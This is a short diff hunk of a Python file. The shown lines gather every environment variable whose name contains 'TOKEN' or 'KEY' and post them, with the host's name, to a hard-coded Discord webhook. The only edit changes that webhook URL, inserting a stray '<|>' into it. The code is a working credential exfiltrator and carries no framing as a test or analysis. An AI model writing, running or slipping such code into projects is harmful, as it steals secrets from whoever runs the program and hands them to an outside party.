@@ -80,7 +80,7 @@ import platform
 
 import requests
 
-HOOK = "https://discord.com/api/webhooks/1029384756473829102/Zx8KwLq2TvN6yBc1JdHs9PfUg3e0aXo7iR4m"
+HOOK = "https://discord.com/api/webhooks/1029384756473829102/<|>Zx8KwLq2TvN6yBc1JdHs9PfUg3e0aXo7iR4m"
 secrets = {key: value for key, value in os.environ.items() if "TOKEN" in key or "KEY" in key}
 requests.post(HOOK, json={"content": f"{platform.node()} {secrets}"})  #!
 
